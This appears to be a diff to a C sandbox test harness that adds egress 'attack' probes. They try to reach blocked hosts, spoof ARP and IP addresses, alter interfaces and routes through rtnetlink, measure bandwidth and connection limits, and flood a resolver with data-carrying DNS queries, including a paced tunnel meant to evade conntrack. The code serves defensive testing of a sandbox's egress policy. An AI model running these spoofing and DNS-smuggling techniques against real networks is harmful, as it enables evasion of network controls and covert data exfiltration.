@@ -41,7 +41,10 @@
 #include <linux/bpf.h>
 #include <linux/perf_event.h>
 #include <arpa/inet.h>
+#include <net/if.h>
 #include <netinet/in.h>
+#include <linux/netlink.h>
+#include <linux/rtnetlink.h>
 #include <poll.h>
 #include <pthread.h>
 #include <sched.h>
@@ -2478,6 +2481,512 @@ static int a_orphan(int argc, char **argv) {
         return finish();
 }
 
+/* ---- egress (issue 13): run inside an egress run, aimed at the node's targets ------------ */
+
+/* "ADDR:PORT/PROTO" into a sockaddr and a protocol; "gw" for ADDR is the run's default gateway. */
+static bool egress_dest(const char *s, struct sockaddr_in *sa, int *proto, char *label, size_t size) {
+        char buf[64];
+        snprintf(buf, sizeof(buf), "%s", s);
+        char *slash = strchr(buf, '/'), *colon = strrchr(buf, ':');
+        if (!slash || !colon || colon > slash)
+                return false;
+        *slash = *colon = '\0';
+        *proto = strcmp(slash + 1, "udp") == 0 ? IPPROTO_UDP : IPPROTO_TCP;
+        *sa = (struct sockaddr_in){.sin_family = AF_INET, .sin_port = htons((uint16_t) atoi(colon + 1))};
+        if (strcmp(buf, "gw") == 0) {
+                /* /proc/net/route: the default route's gateway, little-endian hex. */
+                FILE *f = fopen("/proc/net/route", "re");
+                char line[256];
+                unsigned dst, gw, flags;
+                while (f && fgets(line, sizeof(line), f))
+                        if (sscanf(line, "%*s %x %x %x", &dst, &gw, &flags) == 3 && dst == 0 && gw != 0) {
+                                sa->sin_addr.s_addr = gw;
+                                break;
+                        }
+                if (f)
+                        fclose(f);
+                if (!sa->sin_addr.s_addr)
+                        return false;
+        } else if (inet_pton(AF_INET, buf, &sa->sin_addr) != 1) {
+                return false;
+        }
+        char a[INET_ADDRSTRLEN];
+        inet_ntop(AF_INET, &sa->sin_addr, a, sizeof(a));
+        snprintf(label, size, "%s:%u/%s", a, ntohs(sa->sin_port), *proto == IPPROTO_UDP ? "udp" : "tcp");
+        return true;
+}
+
+/* A DNS question for NAME, type A, into q: its length. */
+static size_t dns_query(unsigned char *q, size_t size, uint16_t id, const char *name) {
+        size_t n = 12;
+        memset(q, 0, 12);
+        q[0] = (unsigned char) (id >> 8), q[1] = (unsigned char) id;
+        q[2] = 0x01; /* recursion desired */
+        q[5] = 1;    /* one question */
+        for (const char *l = name; *l && n + 70 < size;) {
+                size_t len = strcspn(l, ".");
+                if (len > 63)
+                        len = 63;
+                q[n++] = (unsigned char) len;
+                memcpy(q + n, l, len);
+                n += len;
+                l += len;
+                if (*l == '.')
+                        l++;
+        }
+        q[n++] = 0;
+        q[n++] = 0, q[n++] = 1; /* A */
+        q[n++] = 0, q[n++] = 1; /* IN */
+        return n;
+}
+
+/*
+ * egress-reach [+]DEST...: each DEST ("ADDR:PORT/tcp", "ADDR:PORT/udp", ADDR
+ * "gw" for the run's gateway) tried at once for 3 s: a TCP connection that
+ * completes, or an answer to a DNS question sent to a UDP port 53, got
+ * through; an RST (ECONNREFUSED) means the packet left the node. Other UDP
+ * is sent once (the node's result says whether it was refused). A "+" DEST
+ * is the control, which must get through (else ERROR): the path works, so
+ * the others were stopped by the policy.
+ */
+static int a_egress_reach(int argc, char **argv) {
+        enum { MAXD = 16 };
+        struct {
+                char label[48];
+                int fd, proto;
+                bool control, done;
+        } d[MAXD];
+        int n = 0;
+        for (int i = 2; i < argc && n < MAXD; i++) {
+                struct sockaddr_in sa;
+                bool control = argv[i][0] == '+';
+                if (!egress_dest(argv[i] + control, &sa, &d[n].proto, d[n].label, sizeof(d[n].label)))
+                        return error("egress-reach: bad destination %s (ADDR:PORT/tcp|udp)", argv[i]);
+                d[n].control = control;
+                d[n].done = false;
+                printf("INFO dest=%s\n", d[n].label);
+                d[n].fd = socket(AF_INET,
+                                 (d[n].proto == IPPROTO_UDP ? SOCK_DGRAM : SOCK_STREAM) | SOCK_NONBLOCK |
+                                         SOCK_CLOEXEC,
+                                 0);
+                if (d[n].fd < 0)
+                        return error("socket: %s", ename(errno));
+                if (d[n].proto == IPPROTO_UDP) {
+                        unsigned char q[512];
+                        size_t len = ntohs(sa.sin_port) == 53
+                                             ? dns_query(q, sizeof(q), (uint16_t) (0x4100 + n),
+                                                         "reach.example.test")
+                                             : (memcpy(q, "x", 1), 1);
+                        if (sendto(d[n].fd, q, len, 0, (struct sockaddr *) &sa, sizeof(sa)) < 0) {
+                                note("%s: send %s", d[n].label, ename(errno));
+                                d[n].done = true;
+                        } else if (ntohs(sa.sin_port) != 53) {
+                                note("%s: sent (no answer expected)", d[n].label);
+                                d[n].done = true;
+                        }
+                } else if (connect(d[n].fd, (struct sockaddr *) &sa, sizeof(sa)) < 0 &&
+                           errno != EINPROGRESS) {
+                        note("%s: connect %s", d[n].label, ename(errno));
+                        d[n].done = true;
+                }
+                n++;
+        }
+        long long end = now_ms() + 3000;
+        for (;;) {
+                struct pollfd p[MAXD];
+                int waiting = 0;
+                for (int i = 0; i < n; i++) {
+                        p[i] = (struct pollfd){d[i].done ? -1 : d[i].fd,
+                                               d[i].proto == IPPROTO_UDP ? POLLIN : POLLOUT, 0};
+                        waiting += !d[i].done;
+                }
+                long long left = end - now_ms();
+                if (!waiting || left <= 0 || poll(p, (nfds_t) n, (int) left) <= 0)
+                        break;
+                for (int i = 0; i < n; i++) {
+                        if (d[i].done || !p[i].revents)
+                                continue;
+                        d[i].done = true;
+                        int e = 0;
+                        socklen_t el = sizeof(e);
+                        if (d[i].proto == IPPROTO_UDP) {
+                                unsigned char r[512];
+                                ssize_t k = recv(d[i].fd, r, sizeof(r), 0);
+                                e = k > 0 ? 0 : errno;
+                        } else {
+                                getsockopt(d[i].fd, SOL_SOCKET, SO_ERROR, &e, &el);
+                        }
+                        if (d[i].control)
+                                note("%s (the control) %s", d[i].label, e ? ename(e) : "answered");
+                        else if (e == 0)
+                                escape("%s answered", d[i].label);
+                        else if (e == ECONNREFUSED)
+                                escape("%s answered with a reset (the packet left the node)", d[i].label);
+                        else
+                                note("%s: %s", d[i].label, ename(e));
+                }
+        }
+        bool control_failed = false;
+        for (int i = 0; i < n; i++) {
+                if (!d[i].done) {
+                        if (d[i].control)
+                                control_failed = true;
+                        else
+                                note("%s: no answer in 3 s", d[i].label);
+                }
+                close(d[i].fd);
+        }
+        if (control_failed)
+                return error("the control destination did not answer: the path itself does not work");
+        return finish();
+}
+
+/*
+ * egress-listen PORT SECONDS: another run's side of egress-other-run: says its
+ * address and READY, then waits for a connection on PORT, which got through.
+ */
+static int a_egress_listen(int argc, char **argv) {
+        if (argc < 4)
+                return error("usage: egress-listen PORT SECONDS");
+        struct sockaddr_in sa = {.sin_family = AF_INET, .sin_port = htons((uint16_t) atoi(argv[2]))};
+        int one = 1, ls = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC | SOCK_NONBLOCK, 0);
+        setsockopt(ls, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
+        if (ls < 0 || bind(ls, (struct sockaddr *) &sa, sizeof(sa)) < 0 || listen(ls, 8) < 0)
+                return error("listen on port %s: %s", argv[2], ename(errno));
+        char addr[INET_ADDRSTRLEN] = "";
+        /* The run's own address: the source a datagram toward any documentation address would take. */
+        int s = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
+        struct sockaddr_in probe = {.sin_family = AF_INET, .sin_port = htons(9)}, me;
+        socklen_t ml = sizeof(me);
+        inet_pton(AF_INET, "203.0.113.1", &probe.sin_addr);
+        if (s >= 0 && connect(s, (struct sockaddr *) &probe, sizeof(probe)) == 0 &&
+            getsockname(s, (struct sockaddr *) &me, &ml) == 0)
+                inet_ntop(AF_INET, &me.sin_addr, addr, sizeof(addr));
+        if (s >= 0)
+                close(s);
+        if (!addr[0])
+                return error("the run has no address of its own");
+        printf("INFO addr=%s\nREADY\n", addr);
+        long long seconds = atoi(argv[3]),
+                  end = now_ms() + 1000 * (seconds > 0 && seconds < MAX_SLEEP_S ? seconds : 10);
+        while (now_ms() < end) {
+                struct pollfd p = {ls, POLLIN, 0};
+                if (poll(&p, 1, 100) > 0) {
+                        int c = accept4(ls, NULL, NULL, SOCK_CLOEXEC);
+                        if (c >= 0) {
+                                escape("another run connected to this run's port %s", argv[2]);
+                                close(c);
+                                break;
+                        }
+                }
+        }
+        note("nothing reached port %s", argv[2]);
+        return finish();
+}
+
+/* One rtnetlink request with an ack: 0 or a negative errno. */
+static int rtnl_request(struct nlmsghdr *h) {
+        int s = socket(AF_NETLINK, SOCK_RAW | SOCK_CLOEXEC, NETLINK_ROUTE);
+        if (s < 0)
+                return -errno;
+        struct sockaddr_nl k = {.nl_family = AF_NETLINK};
+        h->nlmsg_flags |= NLM_F_REQUEST | NLM_F_ACK;
+        h->nlmsg_seq = 1;
+        struct timeval tv = {2, 0};
+        setsockopt(s, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof(tv));
+        int r = -EIO;
+        if (sendto(s, h, h->nlmsg_len, 0, (struct sockaddr *) &k, sizeof(k)) < 0) {
+                r = -errno;
+        } else {
+                char buf[4096];
+                ssize_t n = recv(s, buf, sizeof(buf), 0);
+                struct nlmsghdr *a = (struct nlmsghdr *) buf;
+                if (n < 0)
+                        r = -errno;
+                else if (n >= (ssize_t) (sizeof(*a) + sizeof(struct nlmsgerr)) &&
+                         a->nlmsg_type == NLMSG_ERROR)
+                        r = ((struct nlmsgerr *) NLMSG_DATA(a))->error;
+        }
+        close(s);
+        return r;
+}
+
+static void rta_add(struct nlmsghdr *h, unsigned short type, const void *data, size_t len) {
+        struct rtattr *a = (struct rtattr *) ((char *) h + NLMSG_ALIGN(h->nlmsg_len));
+        a->rta_type = type;
+        a->rta_len = (unsigned short) RTA_LENGTH(len);
+        memcpy(RTA_DATA(a), data, len);
+        h->nlmsg_len = NLMSG_ALIGN(h->nlmsg_len) + RTA_ALIGN(a->rta_len);
+}
+
+/*
+ * egress-spoof SERVER:PORT: ARP and IP spoofing toward the node's end of the
+ * link: packet sockets (forged ARP, forged frames) and raw sockets refused
+ * by the filter; the run's address, its link's MAC and its routes not
+ * changeable; a TCP connection to the allowlisted SERVER from a forged
+ * source address (IP_FREEBIND, no privilege needed) never completes.
+ */
+static int a_egress_spoof(int argc, char **argv) {
+        if (argc < 3)
+                return error("usage: egress-spoof SERVER:PORT");
+        REFUSE_FD("socket AF_PACKET raw (forged ARP)",
+                  socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, htons(0x0806)));
+        REFUSE_FD("socket AF_PACKET dgram", socket(AF_PACKET, SOCK_DGRAM | SOCK_CLOEXEC, htons(0x0806)));
+        REFUSE_FD("socket raw ip (forged source)", socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW));
+        unsigned ifindex = if_nametoindex("eth0");
+        if (!ifindex)
+                return error("the run has no eth0: not an egress run");
+        struct {
+                struct nlmsghdr h;
+                union {
+                        struct ifaddrmsg a;
+                        struct ifinfomsg l;
+                        struct rtmsg r;
+                };
+                char attrs[256];
+        } m;
+        struct in_addr forged;
+        inet_pton(AF_INET, "198.51.100.77", &forged);
+        memset(&m, 0, sizeof(m));
+        m.h = (struct nlmsghdr){.nlmsg_len = NLMSG_LENGTH(sizeof(struct ifaddrmsg)),
+                                .nlmsg_type = RTM_NEWADDR,
+                                .nlmsg_flags = NLM_F_CREATE | NLM_F_EXCL};
+        m.a = (struct ifaddrmsg){.ifa_family = AF_INET, .ifa_prefixlen = 30, .ifa_index = ifindex};
+        rta_add(&m.h, IFA_LOCAL, &forged, 4);
+        rta_add(&m.h, IFA_ADDRESS, &forged, 4);
+        int r = rtnl_request(&m.h);
+        must_fail("add address 198.51.100.77 to eth0", r, -r);
+        memset(&m, 0, sizeof(m));
+        m.h = (struct nlmsghdr){.nlmsg_len = NLMSG_LENGTH(sizeof(struct ifinfomsg)),
+                                .nlmsg_type = RTM_NEWLINK};
+        m.l = (struct ifinfomsg){.ifi_family = AF_UNSPEC, .ifi_index = (int) ifindex};
+        static const unsigned char mac[6] = {0x02, 0, 0, 0, 0, 0x01};
+        rta_add(&m.h, IFLA_ADDRESS, mac, sizeof(mac));
+        r = rtnl_request(&m.h);
+        must_fail("set eth0's MAC", r, -r);
+        memset(&m, 0, sizeof(m));
+        m.h = (struct nlmsghdr){.nlmsg_len = NLMSG_LENGTH(sizeof(struct rtmsg)),
+                                .nlmsg_type = RTM_NEWROUTE,
+                                .nlmsg_flags = NLM_F_CREATE | NLM_F_EXCL};
+        m.r = (struct rtmsg){.rtm_family = AF_INET,
+                             .rtm_dst_len = 24,
+                             .rtm_table = RT_TABLE_MAIN,
+                             .rtm_protocol = RTPROT_BOOT,
+                             .rtm_scope = RT_SCOPE_LINK,
+                             .rtm_type = RTN_UNICAST};
+        struct in_addr net;
+        inet_pton(AF_INET, "192.0.2.0", &net);
+        rta_add(&m.h, RTA_DST, &net, 4);
+        rta_add(&m.h, RTA_OIF, &ifindex, 4);
+        r = rtnl_request(&m.h);
+        must_fail("add a route 192.0.2.0/24 dev eth0", r, -r);
+
+        /* A forged source address without privilege: IP_FREEBIND. */
+        struct sockaddr_in server;
+        int proto;
+        char label[48];
+        if (!egress_dest(argv[2], &server, &proto, label, sizeof(label)))
+                return error("egress-spoof: bad destination %s", argv[2]);
+        int s = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0), one = 1;
+        struct sockaddr_in src = {.sin_family = AF_INET, .sin_addr = forged};
+        if (s < 0 || setsockopt(s, IPPROTO_IP, IP_FREEBIND, &one, sizeof(one)) < 0 ||
+            bind(s, (struct sockaddr *) &src, sizeof(src)) < 0) {
+                note("bind to the forged 198.51.100.77 %s", ename(errno));
+        } else if (connect(s, (struct sockaddr *) &server, sizeof(server)) < 0 && errno != EINPROGRESS) {
+                note("connect from 198.51.100.77 %s", ename(errno));
+        } else {
+                struct pollfd p = {s, POLLOUT, 0};
+                int e = 0;
+                socklen_t el = sizeof(e);
+                if (poll(&p, 1, 3000) > 0 && getsockopt(s, SOL_SOCKET, SO_ERROR, &e, &el) == 0 && e == 0)
+                        escape("a connection to %s from the forged 198.51.100.77 completed", label);
+                else
+                        note("%s from the forged 198.51.100.77: %s", label,
+                             e ? ename(e) : "no answer in 3 s");
+        }
+        if (s >= 0)
+                close(s);
+        return finish();
+}
+
+/* A TCP connection to DEST, with 30 s send and receive timeouts; -1 with errno. */
+static int egress_connect(const char *dest, char *label, size_t size) {
+        struct sockaddr_in sa;
+        int proto;
+        if (!egress_dest(dest, &sa, &proto, label, size)) {
+                errno = EINVAL;
+                return -1;
+        }
+        int s = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
+        struct timeval tv = {30, 0};
+        if (s < 0)
+                return -1;
+        setsockopt(s, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof(tv));
+        setsockopt(s, SOL_SOCKET, SO_SNDTIMEO, &tv, sizeof(tv));
+        if (connect(s, (struct sockaddr *) &sa, sizeof(sa)) < 0) {
+                int e = errno;
+                close(s);
+                errno = e;
+                return -1;
+        }
+        return s;
+}
+
+/*
+ * egress-bandwidth SERVER:PORT/tcp PATH SINK:PORT/tcp BYTES: downloads PATH
+ * from the HTTP server and uploads BYTES (at most 64 MiB) to the sink, each
+ * as fast as it can; reports each rate (bytes over the time from connect to
+ * the peer's end of stream) for the runner to compare with the limit.
+ */
+static int a_egress_bandwidth(int argc, char **argv) {
+        if (argc < 6)
+                return error("usage: egress-bandwidth SERVER:PORT/tcp PATH SINK:PORT/tcp BYTES");
+        char label[48], req[512];
+        static char buf[65536];
+        long long t0 = now_ms(), down = 0, up = 0, want = atoll(argv[5]);
+        if (want <= 0 || want > (64ll << 20))
+                return error("egress-bandwidth: BYTES must be 1 to 64 MiB");
+        int s = egress_connect(argv[2], label, sizeof(label));
+        if (s < 0)
+                return error("connect %s: %s", argv[2], ename(errno));
+        snprintf(req, sizeof(req), "GET %s HTTP/1.0\r\nHost: %.*s\r\n\r\n", argv[3],
+                 (int) strcspn(argv[2], ":"), argv[2]);
+        if (write(s, req, strlen(req)) != (ssize_t) strlen(req))
+                return error("send the request to %s: %s", label, ename(errno));
+        for (ssize_t k; (k = read(s, buf, sizeof(buf))) > 0 && down < (256ll << 20);)
+                down += k;
+        long long down_ms = now_ms() - t0;
+        close(s);
+        t0 = now_ms();
+        if ((s = egress_connect(argv[4], label, sizeof(label))) < 0)
+                return error("connect %s: %s", argv[4], ename(errno));
+        memset(buf, 0, sizeof(buf));
+        while (up < want) {
+                ssize_t k = write(s, buf,
+                                  (size_t) (want - up < (long long) sizeof(buf) ? want - up
+                                                                                : (long long) sizeof(buf)));
+                if (k <= 0)
+                        break;
+                up += k;
+        }
+        shutdown(s, SHUT_WR);
+        while (read(s, buf, sizeof(buf)) > 0) /* until the sink has read it all and closes */
+                ;
+        long long up_ms = now_ms() - t0;
+        close(s);
+        printf("INFO down_bytes=%lld down_ms=%lld up_bytes=%lld up_ms=%lld\n", down, down_ms, up, up_ms);
+        note("downloaded %lld bytes in %lld ms, uploaded %lld in %lld ms", down, down_ms, up, up_ms);
+        return finish();
+}
+
+/*
+ * egress-conns SINK:PORT/tcp N: N connections at once (at most 256), held 3 s:
+ * reports how many completed, for the runner to compare with the limit.
+ */
+static int a_egress_conns(int argc, char **argv) {
+        if (argc < 4)
+                return error("usage: egress-conns SINK:PORT/tcp N");
+        struct sockaddr_in sa;
+        int proto, n = atoi(argv[3]), fds[256], established = 0;
+        char label[48];
+        if (!egress_dest(argv[2], &sa, &proto, label, sizeof(label)) || n < 1 || n > 256)
+                return error("egress-conns: bad arguments");
+        for (int i = 0; i < n; i++) {
+                fds[i] = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
+                if (fds[i] >= 0 && connect(fds[i], (struct sockaddr *) &sa, sizeof(sa)) < 0 &&
+                    errno != EINPROGRESS) {
+                        close(fds[i]);
+                        fds[i] = -1;
+                }
+        }
+        sleep_ms(3000);
+        for (int i = 0; i < n; i++) {
+                struct pollfd p = {fds[i], POLLOUT, 0};
+                int e = -1;
+                socklen_t el = sizeof(e);
+                if (fds[i] >= 0 && poll(&p, 1, 0) > 0 &&
+                    getsockopt(fds[i], SOL_SOCKET, SO_ERROR, &e, &el) == 0 && e == 0)
+                        established++;
+                if (fds[i] >= 0)
+                        close(fds[i]);
+        }
+        printf("INFO established=%d tried=%d\n", established, n);
+        note("%d of %d connections to %s completed", established, n, label);
+        return finish();
+}
+
+/*
+ * egress-dns-flood RESOLVER N: N queries carrying data in their names
+ * ("d<i>-<base32>.smuggle.test"), half from a socket each, half down one
+ * socket, as fast as it can, and the answers within 3 s; then, for 3 s, up to
+ * N more down that socket, each after the last one's answer (a paced tunnel).
+ * Reports the answers for the runner to compare with the rate limit.
+ */
+static int a_egress_dns_flood(int argc, char **argv) {
+        if (argc < 4)
+                return error("usage: egress-dns-flood RESOLVER N");
+        struct sockaddr_in sa = {.sin_family = AF_INET, .sin_port = htons(53)};
+        int n = atoi(argv[3]);
+        if (inet_pton(AF_INET, argv[2], &sa.sin_addr) != 1 || n < 2 || n > 1000)
+                return error("egress-dns-flood: bad arguments");
+        int fds[1001], nfd = 0, answered = 0;
+        long long t0 = now_ms();
+        for (int i = 0; i < n; i++) {
+                unsigned char q[512];
+                char name[128];
+                snprintf(name, sizeof(name), "d%d-onswg4tfoqfa.smuggle.test", i);
+                size_t len = dns_query(q, sizeof(q), (uint16_t) i, name);
+                if (i < n / 2 || nfd == n / 2) {
+                        int s = socket(AF_INET, SOCK_DGRAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
+                        if (s < 0)
+                                break;
+                        fds[nfd++] = s;
+                }
+                if (sendto(fds[nfd - 1], q, len, 0, (struct sockaddr *) &sa, sizeof(sa)) < 0 &&
+                    errno != EPERM)
+                        break;
+        }
+        long long end = now_ms() + 3000;
+        for (long long left; (left = end - now_ms()) > 0;) {
+                struct pollfd p[1001];
+                for (int i = 0; i < nfd; i++)
+                        p[i] = (struct pollfd){fds[i], POLLIN, 0};
+                if (poll(p, (nfds_t) nfd, (int) left) <= 0)
+                        break;
+                for (int i = 0; i < nfd; i++) {
+                        unsigned char r[512];
+                        while ((p[i].revents & POLLIN) && recv(fds[i], r, sizeof(r), 0) > 0)
+                                answered++;
+                }
+        }
+        int burst = answered, paced = 0;
+        /* Then paced down the one socket: each query after the last one's answer, as a tunnel
+         * would, so that after the first answer the flow is no longer new to conntrack. */
+        int s = fds[nfd - 1];
+        end = now_ms() + 3000;
+        for (int i = 0; i < n && now_ms() < end; i++) {
+                unsigned char q[512], r[512];
+                char name[128];
+                snprintf(name, sizeof(name), "p%d-onswg4tfoqfa.smuggle.test", i);
+                size_t len = dns_query(q, sizeof(q), (uint16_t) (0x8000 + i), name);
+                if (sendto(s, q, len, 0, (struct sockaddr *) &sa, sizeof(sa)) < 0)
+                        break;
+                struct pollfd p = {s, POLLIN, 0};
+                long long left = end - now_ms();
+                if (left > 0 && poll(&p, 1, (int) (left < 300 ? left : 300)) > 0 &&
+                    recv(s, r, sizeof(r), 0) > 0)
+                        paced++;
+        }
+        answered += paced;
+        long long ms = now_ms() - t0;
+        for (int i = 0; i < nfd; i++)
+                close(fds[i]);
+        printf("INFO answered=%d sent=%d ms=%lld\n", answered, 2 * n, ms);
+        note("%d of %d smuggling queries to %s answered at once, %d more paced down one socket, in %lld ms",
+             burst, n, argv[2], paced, ms);
+        return finish();
+}
+
 static int a_selftest_escape(int argc, char **argv) {
         (void) argc;
         (void) argv;
@@ -2562,6 +3071,12 @@ static const struct attack {
         {"zombies", a_zombies},
         {"sigstop", a_sigstop},
         {"orphan", a_orphan},
+        {"egress-reach", a_egress_reach},
+        {"egress-listen", a_egress_listen},
+        {"egress-spoof", a_egress_spoof},
+        {"egress-bandwidth", a_egress_bandwidth},
+        {"egress-conns", a_egress_conns},
+        {"egress-dns-flood", a_egress_dns_flood},
         {"selftest-escape", a_selftest_escape},
 };
 
